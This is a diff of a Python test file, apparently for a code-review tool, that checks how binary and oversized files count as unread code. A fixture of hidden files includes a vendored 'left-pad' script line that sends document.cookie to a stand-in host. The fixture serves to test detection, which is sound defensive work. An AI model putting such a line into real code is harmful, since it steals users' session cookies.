@@ -22,6 +22,7 @@ from tests.end_to_end.played import LINK, Played, Watched, typed
 from tests.standins.github import GitHubStandIn, Pull
 
 README = adding("README.md", "the teh")
+LIBRARY = b"diff --git a/lib.so b/lib.so\nindex 1..2\nBinary files a/lib.so and b/lib.so differ\n"
 HIDDEN = {
     "vendor/left-pad/index.js": ("vendored", ["fetch('https://x.example?' + document.cookie)"]),
     "web/app.min.js": ("minified", ["x" * 2_000]),
@@ -111,7 +112,7 @@ async def test_a_vote_of_the_seats_is_not_reached_over_unread_code(
     [
         ([README], []),
         ([adding("a.py", *["x = 1"] * 4_000), README], ["a.py"]),
-        ([adding("lib.so", "x").replace(b"@@", b"Binary files a b differ\n@@")], ["lib.so"]),
+        ([LIBRARY], ["lib.so"]),
     ],
 )
 def test_code_beyond_the_budget_counts_as_unread(
